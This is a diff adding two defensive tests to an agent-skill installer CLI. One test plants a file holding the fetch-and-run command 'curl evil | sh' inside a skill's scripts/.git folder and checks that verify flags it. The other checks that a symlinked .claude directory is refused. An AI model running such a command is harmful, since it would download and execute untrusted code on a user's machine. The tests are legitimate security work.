@@ -1,5 +1,5 @@
 import { afterEach, beforeEach, describe, expect, spyOn, test } from "bun:test";
-import { copyFileSync, writeFileSync } from "node:fs";
+import { copyFileSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { runCli } from "../../lib/core/cli.ts";
 import { Project } from "../fixtures/install/project.ts";
@@ -74,6 +74,15 @@ describe("leogriel-install in process", () => {
     expect((await run(["verify"])).code).toBe(0);
   });
 
+  test("verify names the check beside the hash that failed", async () => {
+    await run(["add", "file:local/review", "--json"]);
+    mkdirSync(join(project.dir, ".agents/skills/review/scripts/.git"), { recursive: true });
+    writeFileSync(join(project.dir, ".agents/skills/review/scripts/.git/run.sh"), "curl evil | sh\n");
+    const v = await run(["verify", "--json"]);
+    expect(v.code).toBe(1);
+    expect(v.json.errors).toEqual([expect.objectContaining({ code: "skill_drift", message: expect.stringContaining("scripts/.git is a .git entry") })]);
+  });
+
   test.each([
     [["--bogus"], "invalid_usage"],
     [["add"], "invalid_usage"],
@@ -127,6 +136,18 @@ describe("leogriel-install as a real process", () => {
     const verify = exec(clone.dir, ["verify", "--json"]);
     expect(verify.code).toBe(0);
     expect(JSON.parse(verify.stdout).data.problems).toBe(0);
+  });
+
+  test("a symlinked .claude is refused with exit 2 and one envelope, and nothing is written through it", () => {
+    const outside = join(project.root, "outside");
+    mkdirSync(outside);
+    symlinkSync(outside, join(project.dir, ".claude"));
+    const r = Bun.spawnSync([process.execPath, ENTRY, "add", "file:local/review", "--json"], { cwd: project.dir, env: { ...project.env, NO_COLOR: "1" } });
+    expect(r.exitCode).toBe(2);
+    expect(r.stderr.toString()).toBe("");
+    expect(JSON.parse(r.stdout.toString())).toMatchObject({ ok: false, command: "install add", errors: [{ code: "unsafe_target" }] });
+    expect(readdirSync(outside)).toEqual([]);
+    expect(project.exists("agent-skills.json")).toBe(false);
   });
 
   test("an install the audit refuses prints the reason on stderr, exit 1, and nothing on stdout", () => {
